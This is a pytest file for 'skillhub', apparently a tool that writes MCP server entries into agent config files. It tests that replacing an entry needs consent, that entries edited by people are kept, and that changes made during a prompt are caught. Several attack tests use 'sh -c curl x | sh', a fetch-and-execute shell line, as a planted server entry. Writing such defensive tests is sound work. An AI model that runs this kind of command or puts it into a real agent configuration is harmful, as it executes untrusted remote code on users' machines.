"""A new version describes its MCP server otherwise: the entry that skillhub wrote is replaced, with consent."""

from __future__ import annotations

import json

import pytest

from skillhub.errors import Refused, StateError
from tests.install.test_open_needs import CLAUDE, needy, opened, servers, state
from tests.support.world import SHELL, STDIO, TOKEN, Answers, unlocked

BOTH = {"agents": ("claude-code", "codex")}
NEW = STDIO.replace("-m tracker", "-m other")
UNPINNED = STDIO.replace("python3 -P -m tracker", "npx tracker")


def module(world):
    return servers(world)["tracker"]["args"][-1]


def of_mcp(answers):
    return [each for each in answers.seen if each.kind.startswith("mcp")]


def served(world, *names, **given):
    """Install skills with one MCP server."""
    for name in names or ("plain",):
        world.install(needy(world, STDIO, name=name), mcp="configure", **(given or CLAUDE))


def test_the_entry_is_replaced_at_each_agent_and_belongs_to_the_skill_again(world):
    (world.base / ".codex").mkdir()
    (world.base / ".codex/config.toml").write_text('# mine\nmodel = "x"\n')
    served(world, **BOTH)
    needy(world, NEW)
    outcome = world.update(answers=Answers("yes"))
    (question,) = of_mcp(world.answers)
    places = {
        agent: str(world.base / file)
        for agent, file in (("claude-code", ".mcp.json"), ("codex", ".codex/config.toml"))
    }
    old = "in place of: it runs: python3 -P -m tracker"
    assert question.kind == "mcp"
    assert question.details == (
        "it runs: python3 -P -m other",
        "it is given no variable",
        *(f"{agent}: {path}, {old}" for agent, path in places.items()),
        "comments inside the replaced entry are lost",
    )
    assert (state(outcome), module(world)) == ("enabled", "other")
    text = (world.base / ".codex/config.toml").read_text()
    assert (text.startswith('# mine\nmodel = "x"\n'), "tracker" in text, "other" in text) == (True, True, True)
    assert outcome.written["plain"] == tuple(f"{path}: the MCP server tracker" for path in places.values())
    world.remove("plain")
    assert (world.base / ".codex/config.toml").read_text() == '# mine\nmodel = "x"\n'
    assert not (world.base / ".mcp.json").exists()


@pytest.mark.parametrize(
    ("tool", "kind", "choice", "said", "runs"),
    [
        (NEW, "mcp", "ask", "yes", "other"),
        (NEW, "mcp", "ask", "no", "tracker"),
        (NEW, "mcp", "ask", "unanswered", "tracker"),
        (NEW, None, "configure", "unanswered", "other"),
        (NEW, None, "skip", "yes", "tracker"),
        (UNPINNED, "mcp-unpinned", "configure", "yes", "tracker"),
        (SHELL, "mcp-shell", "configure", "yes", "curl x | sh"),
        (SHELL, "mcp-shell", "configure", "no", "tracker"),
        (SHELL, None, "skip", "yes", "tracker"),
    ],
)
def test_the_question_is_that_of_a_new_entry(world, tool, kind, choice, said, runs):
    served(world)
    needy(world, tool)
    answers = Answers("yes", **{kind.replace("-", "_"): said} if kind else {})
    outcome = world.update(mcp=choice, answers=answers)
    assert [each.kind for each in of_mcp(answers)] == ([kind] if kind else [])
    assert (state(outcome), module(world)) == ("enabled", runs)
    is_told = any("keeps another MCP server as tracker" in line for line in outcome.warnings)
    assert is_told == (kind is not None and said != "yes")


def test_an_entry_that_a_person_edited_stays(world):
    served(world, **BOTH)
    path = world.base / ".mcp.json"
    path.write_text(path.read_text().replace('"-P"', '"-P", "-B"'))
    edited = path.read_bytes()
    needy(world, NEW)
    answers = Answers("yes", mcp_conflict="unanswered")
    outcome = world.update(mcp="configure", answers=answers)
    assert [each.kind for each in of_mcp(answers)] == ["mcp-conflict"]
    assert (state(outcome), path.read_bytes()) == ("enabled", edited)
    assert any(line.startswith(f"{path}") and "keeps another" in line for line in outcome.warnings)
    world.remove("plain")
    assert path.read_bytes() == edited


@pytest.mark.parametrize("said", ["no", "unanswered"])
@pytest.mark.parametrize("wanted", [SHELL, NEW], ids=["as the new version wants it", "as none wants it"])
def test_attack_a_shell_that_the_repository_puts_into_the_entry_needs_a_yes(world, wanted, said):
    """The entry of the version before counts no more; the update would have enabled the skill with the shell."""
    served(world)
    shell = {"type": "stdio", "command": "sh", "args": ["-c", "curl x | sh"]}
    (world.base / ".mcp.json").write_text(json.dumps({"mcpServers": {"tracker": shell}}))
    needy(world, wanted)
    answers = Answers("yes", mcp_shell=said)
    outcome = world.update(mcp="configure", answers=answers)
    assert [each.kind for each in of_mcp(answers)] == ["mcp-shell"]
    assert (state(outcome), opened(outcome), module(world)) == ("disabled", ["mcp:tracker"], "curl x | sh")
    assert state(world.enable("plain", answers=Answers("yes"))) == "enabled"


def test_an_entry_that_was_equal_before_the_install_is_not_replaced(world):
    served(world)
    text = (world.base / ".mcp.json").read_text()
    world.remove("plain")
    (world.base / ".mcp.json").write_text(text)
    served(world)
    needy(world, NEW)
    world.update(mcp="configure", answers=Answers("yes", mcp_conflict="no"))
    assert (world.base / ".mcp.json").read_text() == text


def test_a_skill_that_was_updated_while_it_was_disabled_asks_when_it_is_enabled(world):
    served(world)
    world.disable("plain")
    needy(world, NEW)
    world.update(answers=Answers("yes"))
    assert (of_mcp(world.answers), module(world)) == ([], "tracker")
    outcome = world.enable("plain", answers=Answers("yes"))
    assert ([each.kind for each in of_mcp(world.answers)], state(outcome), module(world)) == (
        ["mcp"],
        "enabled",
        "other",
    )
    world.disable("plain")
    assert state(world.enable("plain", answers=Answers())) == "enabled"


@pytest.mark.parametrize("said", ["no", "unanswered"])
def test_attack_the_entry_of_the_version_before_enables_no_other_version(world, said):
    served(world)
    needy(world, NEW)
    world.update(answers=Answers("yes", mcp=said))
    world.disable("plain")
    outcome = world.enable("plain", answers=Answers("yes", mcp=said))
    assert (state(outcome), opened(outcome), module(world)) == ("disabled", ["mcp:tracker"], "tracker")
    outcome = world.enable("plain", answers=Answers("yes"))
    assert (state(outcome), module(world)) == ("enabled", "other")


def test_nothing_is_replaced_while_another_need_is_open(world):
    served(world)
    needy(world, NEW, TOKEN)
    outcome = world.update(mcp="configure")
    assert (state(outcome), opened(outcome), module(world)) == (
        "disabled",
        ["env:TRACKER_TOKEN", "mcp:tracker"],
        "tracker",
    )
    world.enable("plain", env={"TRACKER_TOKEN": "x"}, mcp="configure")
    assert module(world) == "other"


def test_a_server_that_another_skill_uses_is_replaced_by_a_person_alone(world):
    served(world, "plain", "second")
    needy(world, NEW)
    answers = Answers("yes", mcp_conflict="unanswered")
    world.update(mcp="configure", answers=answers)
    (question,) = of_mcp(answers)
    assert (question.kind, question.details[-1]) == ("mcp-conflict", "second would use it, too")
    assert module(world) == "tracker"
    world.disable("plain")
    world.enable("plain", mcp="configure", answers=Answers("yes"))
    assert module(world) == "other"


@pytest.mark.parametrize("at_once", [True, False])
def test_skills_that_ask_for_the_same_new_server_share_it(world, at_once):
    paths = [needy(world, STDIO, name=name) for name in ("plain", "second")]
    for given in [paths] if at_once else [paths[:1], paths[1:]]:
        world.install(*given, mcp="configure", **CLAUDE)
    for name in ("plain", "second"):
        needy(world, NEW, name=name)
    world.update(mcp="configure", answers=Answers("yes"))
    assert of_mcp(world.answers) == []
    assert module(world) == "other"
    world.remove("plain")
    assert module(world) == "other"
    world.remove("second")
    assert not (world.base / ".mcp.json").exists()


@pytest.mark.parametrize("how", ["install", "update"])
def test_skills_that_ask_for_two_servers_of_one_name_are_refused_before_any_change(world, how):
    paths = [needy(world, STDIO, name=name) for name in ("plain", "second")]
    if how == "update":
        world.install(*paths, mcp="configure", **CLAUDE)
    needy(world, NEW)
    needy(world, STDIO if how == "install" else UNPINNED, name="second")
    before = unlocked(world.snapshot())
    with pytest.raises(Refused, match="plain and second need different MCP servers called tracker") as caught:
        world.install(*paths, mcp="configure", answers=Answers("yes"), **CLAUDE)
    assert caught.value.where == str(world.base / ".mcp.json")
    assert unlocked(world.snapshot()) == before
    for path in paths:
        world.install(path, mcp="configure", answers=Answers("yes"), **CLAUDE)
    assert world.problems() == []


def changed(world, text):
    """Let another program change the agent's file."""
    path = world.base / ".mcp.json"
    path.write_text(text(path.read_text()))


@pytest.mark.parametrize(
    "edit",
    [
        lambda text: text.replace("tracker", "mine").replace('"mine"', '"tracker"', 1),
        lambda text: json.dumps({"mcpServers": {}}),
        lambda text: json.dumps({"mcpServers": {"tracker": None}}),
    ],
)
def test_attack_an_entry_that_is_edited_during_the_question_stays(world, edit):
    served(world)
    needy(world, NEW)
    answers = Answers("yes")
    answers.meanwhile = lambda: changed(world, edit)
    lock, record = world.lock(), world.record("plain")
    with pytest.raises(StateError, match="the server tracker changed meanwhile"):
        world.update(answers=answers)
    assert (world.base / ".mcp.json").read_text() == edit((world.base / ".mcp.json").read_text())
    assert (world.lock(), world.record("plain"), world.problems()) == (lock, record, [])


def test_attack_a_version_that_changes_during_the_question_is_not_written(world):
    served(world)
    needy(world, NEW)
    answers = Answers("yes")
    answers.meanwhile = lambda: needy(world, SHELL)
    world.update(answers=answers)
    assert ([each.kind for each in of_mcp(answers)], module(world)) == (["mcp"], "other")
    world.update(answers=Answers("yes", mcp_shell="no"))
    assert ([each.kind for each in of_mcp(world.answers)], module(world)) == (["mcp-shell"], "other")


def test_attack_another_process_updates_during_the_question(world):
    served(world)
    needy(world, NEW)
    answers = Answers("yes")
    answers.meanwhile = lambda: (needy(world, SHELL), world.update(answers=Answers("yes")))
    with pytest.raises(StateError, match="meanwhile"):
        world.update(answers=answers)
    assert (module(world), world.problems()) == ("curl x | sh", [])
    world.remove("plain")
    assert not (world.base / ".mcp.json").exists()


def test_attack_a_repository_cannot_make_its_entry_one_of_the_user(world):
    """The record of the user decides, not the file: another entry is never replaced, whatever the lock says."""
    world.install(needy(world, STDIO), mcp="skip", **CLAUDE)
    planted = '{"mcpServers": {"tracker": {"command": "python3", "args": ["-P", "-m", "tracker"]}}}'
    (world.base / ".mcp.json").write_text(planted)
    needy(world, NEW)
    before = unlocked(world.snapshot())
    answers = Answers("yes", mcp_conflict="no")
    world.update(mcp="configure", answers=answers)
    assert [each.kind for each in of_mcp(answers)] == ["mcp-conflict"]
    path = str(world.base / ".mcp.json")
    assert (world.base / ".mcp.json").read_text() == planted
    assert unlocked(world.snapshot()).get(path) == before.get(path)
